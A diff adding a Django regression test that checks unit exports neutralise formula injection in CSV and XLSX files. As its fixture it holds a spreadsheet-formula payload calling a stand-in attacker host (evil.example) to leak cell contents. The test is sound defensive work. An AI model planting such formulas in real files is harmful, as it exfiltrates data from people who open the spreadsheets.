@@ -469,3 +469,23 @@ def test_the_sample_file_in_the_readme_reads_cleanly(units):
     rows, errors = read_figures(sample.read_bytes(), sample.name)
     assert errors == []
     assert len(rows) == 16  # 4 rows × 4 figures
+
+
+def test_the_unit_export_never_carries_a_live_formula(client_as, hr_user):
+    """Regression for every export, not only the HR reports: a unit named like a formula is text
+    in the CSV (quoted with ') and a string cell in the XLSX."""
+    from openpyxl import load_workbook
+
+    attack = '=HYPERLINK("https://evil.example/?x="&A2,"Details")'
+    unit = Location.objects.create(name=attack)
+    client = client_as(hr_user)
+    url = reverse("outcomes:unit_export", args=["location", unit.pk, "csv"]) + "?months=3"
+    text = b"".join(client.get(url).streaming_content).decode("utf-8-sig")
+    rows = text.splitlines()[1:]
+    assert rows and all(";\"'=HYPERLINK(" in row for row in rows)
+    assert ';"=HYPERLINK' not in text and ";=HYPERLINK" not in text
+    url = reverse("outcomes:unit_export", args=["location", unit.pk, "xlsx"]) + "?months=3"
+    sheet = load_workbook(io.BytesIO(b"".join(client.get(url).streaming_content))).active
+    names = [row[1] for row in sheet.iter_rows(min_row=2)]
+    assert names and all(cell.data_type == "s" for cell in names)
+    assert all(cell.value.lstrip("'") == attack for cell in names)
